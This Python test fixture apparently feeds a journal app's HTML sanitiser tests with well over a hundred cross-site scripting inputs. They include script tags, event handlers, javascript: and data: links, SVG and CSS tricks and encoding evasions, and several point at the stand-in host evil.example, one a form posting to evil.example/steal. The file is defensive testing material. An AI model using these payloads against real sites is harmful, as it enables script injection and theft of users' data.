"""Hostile things a writer could type into a journal entry or a comment.

Each input is something that would run script, fetch from another host or break out of the page
if the sanitiser (journals/rendering.py) let it through. Anything that would run script does
something a test can see: it sets ``window.__pwned`` or opens a dialog with ``alert(1)``.
Anything that would fetch points at ``evil.example``, a host outside the test server, so the
browser tests' request log catches it. Links to ``ok.example`` are plain links a reader might
click; nothing fetches them.

``shows`` is the text a reader must still see after rendering (whitespace folded): raw HTML is
shown as the text the writer typed, never dropped and never run. By default that is the whole
input; where Markdown rightly changes the text (link syntax, entities, code fences) it is the
part that survives.

No input holds a NUL character: Django's form fields refuse it, so nobody can save one.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    id: str  # kind and number, e.g. "script-3"
    text: str
    shows: tuple[str, ...]


HOSTILE: list[Hostile] = []


def add(kind: str, text: str, *shows: str):
    number = sum(1 for item in HOSTILE if item.id.startswith(f"{kind}-")) + 1
    HOSTILE.append(Hostile(f"{kind}-{number}", text, shows or (text,)))


# --- <script> in every shape ------------------------------------------------------------------
K = "script"
add(K, "<script>window.__pwned = 1</script>")
add(K, "<SCRIPT>window.__pwned = 1</SCRIPT>")
add(K, "<ScRiPt >alert(1)</sCrIpT >")
add(K, '<script src="https://evil.example/x.js"></script>')
add(K, "<script\n>alert(1)</script\n>", "<script", "alert(1)</script")
add(K, "<scr<script>ipt>alert(1)</scr</script>ipt>")
add(K, "<<script>script>alert(1)<</script>/script>")
add(K, "<script>alert(1)", "<script>alert(1)")
add(K, '<script/src="https://evil.example/x.js">')
add(K, '<script type="module">window.__pwned = 1</script>')
add(K, "Before <script>alert(1)</script> after, in one paragraph.")
add(K, "- first\n- <script>alert(1)</script>\n- third", "<script>alert(1)</script>", "third")
add(K, "> <script>alert(1)</script>", "<script>alert(1)</script>")
add(K, "# <script>alert(1)</script>", "<script>alert(1)</script>")
add(K, "<script>\n/* many lines */\nwindow.__pwned = 1\n</script>", "window.__pwned = 1")
add(K, "`<script>alert(1)</script>`", "<script>alert(1)</script>")
add(K, "    <script>window.__pwned = 1</script>", "<script>window.__pwned = 1</script>")
add(K, "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>")
add(K, "~~~\n<script>alert(1)</script>\n~~~", "<script>alert(1)</script>")
add(K, "<template><script>alert(1)</script></template>")
add(K, '<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
add(K, "</script><script>alert(1)</script>")

# --- Event handlers on many tags --------------------------------------------------------------
K = "handler"
add(K, "<img src=x onerror=alert(1)>")
add(K, '<img src="https://evil.example/x.png" onerror="window.__pwned = 1">')
add(K, "<img/src=x/onerror=alert(1)>")
add(K, "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=alert(1)>")
add(K, "<svg onload=alert(1)>")
add(K, "<svg/onload=window.__pwned=1>")
add(K, "<body onload=alert(1)>")
add(K, "<body onpageshow=alert(1)>")
add(K, "<details open ontoggle=alert(1)>")
add(K, "<input autofocus onfocus=alert(1)>")
add(K, "<select autofocus onfocus=alert(1)></select>")
add(K, "<textarea autofocus onfocus=alert(1)></textarea>")
add(K, "<video src=x onerror=alert(1)></video>")
add(K, "<video><source onerror=alert(1)></video>")
add(K, "<audio src=x onerror=alert(1)></audio>")
add(K, "<marquee onstart=alert(1)>moving</marquee>")
add(K, '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>')
add(K, '<iframe src="https://evil.example/"></iframe>')
add(K, '<iframe src="javascript:alert(1)"></iframe>')
add(K, '<a href="#" onclick="alert(1)">click me</a>')
add(K, "<a onmouseover=alert(1)>hover me</a>")
add(K, "<b onmouseover=alert(1)>bold</b>")
add(K, '<p onclick="alert(1)">a paragraph</p>')
add(K, "<button onclick=alert(1)>press</button>")
add(K, "<x-custom onclick=alert(1)>custom</x-custom>")
add(K, "<style onload=alert(1)></style>")
add(K, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>")
add(K, "<img src=x:alert(alt) onerror=eval(src) alt=0>")
add(K, '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;(1)">', "<img src=x onerror=")
add(K, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
add(K, "**bold**{: onclick=alert(1)}", "bold{: onclick=alert(1)}")

# --- javascript:, vbscript: and data: links -----------------------------------------------------
K = "scheme"
add(K, "[click](javascript:window.__pwned=1)", "click")
add(K, "[click](JAVASCRIPT:alert(1))", "click")
add(K, "[click](JavaScript:alert(1))", "click")
add(K, "[click]( javascript:alert(1))", "click")
add(K, "[click](<javascript:alert(1)>)", "click")
add(K, '[click](javascript:alert(1) "a title")', "click")
add(K, "[click](javascript&#58;alert(1))", "click")
add(K, "[click](&#106;avascript:alert(1))", "click")
add(K, "[click](&#x6A;avascript:alert(1))", "click")
add(K, "[click](%6Aavascript:alert(1))", "click")
add(K, "[click](java\tscript:alert(1))", "click")
add(K, "[click](java&#9;script:alert(1))", "click")
add(K, "[click](jav&Tab;ascript:alert(1))", "click")
add(K, "[click](java&NewLine;script:alert(1))", "click")
add(K, "[click](\x01javascript:alert(1))", "click")
add(K, "[click](javascript://%0aalert(1))", "click")
add(K, "[click](vbscript:msgbox(1))", "click")
add(K, "[click](VBScript:msgbox(1))", "click")
add(K, "[click](data:text/html,<script>alert(1)</script>)", "click")
add(K, "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "click")
add(K, "[click](DATA:text/html,<script>alert(1)</script>)", "click")
add(K, "[click](data:image/svg+xml,<svg onload=alert(1)>)", "click")
add(K, "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "click")
add(K, "[click](file:///etc/passwd)", "click")
add(K, "[click][evil]\n\n[evil]: javascript:alert(1)", "click")
add(K, '[click][evil]\n\n[evil]: javascript:alert(1) "a title"', "click")
add(K, "[click][evil]\n\n[evil]: <data:text/html,<script>alert(1)</script>>", "click")
add(K, "[evil]\n\n[evil]: vbscript:msgbox(1)", "evil")
add(K, "<javascript:alert(1)>")
add(K, "<JAVASCRIPT:window.__pwned=1>")
add(K, "<data:text/html,<script>alert(1)</script>>")
add(K, "<vbscript:msgbox(1)>")
add(K, '<a href="javascript:alert(1)">raw link</a>')
add(K, "javascript:alert(1) typed as plain words")

# --- SVG ----------------------------------------------------------------------------------------
K = "svg"
add(K, "<svg><script>alert(1)</script></svg>")
add(K, '<svg xmlns="http://www.w3.org/2000/svg">\n  <script>window.__pwned = 1</script>\n</svg>')
add(K, "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>")
add(K, '<svg><use href="https://evil.example/x.svg#a"/></svg>')
add(K, '<svg><use xlink:href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"/></svg>')
add(K, '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">tap</text></a></svg>')
add(K, '<svg><image href="https://evil.example/x.png"/></svg>')
add(K, "<svg><set attributeName=onmouseover to=alert(1) /></svg>")
add(K, "<svg><style>@import url(https://evil.example/x.css)</style></svg>")
add(K, '<math><a xlink:href="javascript:alert(1)">maths</a></math>')

# --- HTML hidden in Markdown link text and titles ---------------------------------------------
K = "link-text"
add(K, "[<img src=x onerror=alert(1)>](https://ok.example/)", "<img src=x onerror=alert(1)>")
add(K, "[<script>alert(1)</script>](https://ok.example/)", "<script>alert(1)</script>")
add(K, "[**<svg onload=alert(1)>**](https://ok.example/)", "<svg onload=alert(1)>")
add(K, "[`<img src=x onerror=alert(1)>`](https://ok.example/)", "<img src=x onerror=alert(1)>")
add(K, '[<a href="javascript:alert(1)">inner</a>](https://ok.example/)', "inner</a>")
add(K, '[title](https://ok.example/ "<script>alert(1)</script>")', "title")
add(K, '[title](https://ok.example/ "\\" onmouseover=\\"alert(1)")', "title")
add(K, '[quote](https://ok.example/" onmouseover="alert(1))', "quote")
add(K, "[quote](https://ok.example/'onmouseover='alert(1))", "quote")
add(K, "[angle](https://ok.example/><script>alert(1)</script>)", "angle")
add(K, '[ref][r]\n\n[r]: https://ok.example/ "<img src=x onerror=alert(1)>"', "ref")
add(K, '<https://ok.example/"onmouseover="alert(1)>', 'https://ok.example/"onmouseover="alert(1)')
add(K, '[mail](mailto:someone@example.org"onclick="alert(1))', "mail")

# --- Markdown images: a reader's browser must not fetch them ----------------------------------
K = "image"
add(K, "![x](https://evil.example/x.png)")
add(K, '![x](https://evil.example/x.png "a title")')
add(K, "![x](//evil.example/x.png)")
add(K, "![x](javascript:alert(1))")
add(K, "![x](data:image/svg+xml,<svg onload=alert(1)>)")
add(K, "![<img src=x onerror=alert(1)>](https://evil.example/x.png)")
add(
    K, "[![x](https://evil.example/x.png)](https://ok.example/)", "![x](https://evil.example/x.png)"
)
add(K, "![x][img]\n\n[img]: https://evil.example/x.png", "![x]")
add(K, "![img]\n\n[img]: https://evil.example/x.png", "!")
add(K, '<img src="https://evil.example/x.png">')
add(K, '<img srcset="https://evil.example/x.png 1x">')
add(K, '<picture><source srcset="https://evil.example/x.png"><img></picture>')
add(K, '<input type=image src="https://evil.example/x.png">')
add(K, '<video poster="https://evil.example/x.png"></video>')

# --- Styles and CSS that fetch -----------------------------------------------------------------
K = "css"
add(K, "<style>body { background: url(https://evil.example/x.png) }</style>")
add(K, '<style>@import url("https://evil.example/x.css");</style>')
add(K, "<style>@import 'https://evil.example/x.css';</style>")
add(K, "<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style>")
add(K, '<p style="background: url(https://evil.example/x.png)">styled</p>')
add(K, "<div style=\"background-image: url('javascript:alert(1)')\">div</div>")
add(K, '<span style="behavior: url(https://evil.example/x.htc)">span</span>')
add(K, '<p style="width: expression(alert(1))">old IE</p>')
add(K, "<link rel=stylesheet href=https://evil.example/x.css>")
add(K, "<link rel=preload href=https://evil.example/x.js as=script>")
add(K, "<link rel=prefetch href=https://evil.example/x>")

# --- Tags that change the whole page ------------------------------------------------------------
K = "page"
add(K, '<base href="https://evil.example/">')
add(K, '<meta http-equiv="refresh" content="0;url=https://evil.example/">')
add(K, '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')
add(K, '<meta http-equiv="Content-Security-Policy" content="default-src *">')
add(K, '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>')
add(K, '<button form=x formaction="javascript:alert(1)">go</button>')
add(K, '<object data="https://evil.example/x.swf"></object>')
add(K, '<object data="javascript:alert(1)"></object>')
add(K, '<embed src="https://evil.example/x.swf">')
add(K, '<embed src="javascript:alert(1)">')
add(K, '<frameset><frame src="https://evil.example/"></frameset>')
add(K, "<portal src=https://evil.example/></portal>")

# --- Broken markup ------------------------------------------------------------------------------
K = "broken"
add(K, "<img src=x onerror=alert(1)")
add(K, '<a href="javascript:alert(1)>unclosed quote')
add(K, '<p title="</p><script>alert(1)</script>">')
add(K, "<!--><script>alert(1)</script>-->")
add(K, "<!-- --!><script>alert(1)</script> -->")
add(K, "<!-- <script>alert(1)</script> -->")
add(K, "<!--[if IE]><script>alert(1)</script><![endif]-->")
add(K, "<![CDATA[<script>alert(1)</script>]]>")
add(K, "]]><script>alert(1)</script>")
add(K, "<b><i>mixed</b></i><script>alert(1)</script>")
add(K, "<<img src=x onerror=alert(1)>>")
add(K, '"><script>alert(1)</script>')
add(K, "'><img src=x onerror=alert(1)>")
add(K, "</textarea><script>alert(1)</script>")
add(K, "</title><script>alert(1)</script>")
add(K, "<!DOCTYPE html><html><head><script>alert(1)</script>")
add(K, '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')
add(K, "<div><p>never closed")
add(K, "[unclosed link](https://ok.example/", "[unclosed link](https://ok.example/")
add(K, "[unclosed](javascript:alert(1)", "[unclosed](javascript:alert(1)")
add(K, "<scr\nipt>alert(1)</script>", "<scr ipt>alert(1)</script>")
add(K, "*<script>*alert(1)*</script>*", "<script>", "alert(1)", "</script>")

# --- Entities and Unicode tricks ----------------------------------------------------------------
K = "encoded"
add(K, "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>")
add(K, "&#60;script&#62;alert(1)&#60;/script&#62;", "<script>alert(1)</script>")
add(K, "&#x3C;img src=x onerror=alert(1)&#x3E;", "<img src=x onerror=alert(1)>")
add(K, "&amp;lt;script&amp;gt;alert(1)", "&lt;script&gt;alert(1)")
add(K, "\\<script\\>alert(1)\\</script\\>", "<script>alert(1)", "</script>")
add(K, "%3Cscript%3Ealert(1)%3C/script%3E")
add(K, "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")
add(K, "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")
add(K, "<scr\u0130pt>alert(1)</scr\u0130pt>")
add(K, "<scr\u200bipt>alert(1)</script>")
add(K, "\u202e>tpircs/<)1(trela>tpircs<")
add(K, "[click](ja\u200bvascript:alert(1))", "click")
add(K, "[click](\uff4aavascript:alert(1))", "click")
add(K, "[click](https://ok.example/%22onmouseover=%22alert(1))", "click")
add(K, "[click](/journal/export.zip)", "click")
add(K, "[click](//evil.example/x)", "click")


# Samples for the PDF check: what each must print, as text, in the exported journal.
PDF_SAMPLES = ("<script>window.__pwned = 1</script>", "<img src=x onerror=alert(1)>", "<svg")
